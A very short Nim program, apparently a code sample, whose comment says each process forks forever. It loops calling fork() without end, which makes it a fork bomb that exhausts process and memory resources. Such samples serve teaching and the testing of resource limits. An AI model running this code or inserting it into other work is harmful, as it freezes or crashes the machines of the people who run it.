import posix

# Each process forks for ever.
while true:
  discard fork()
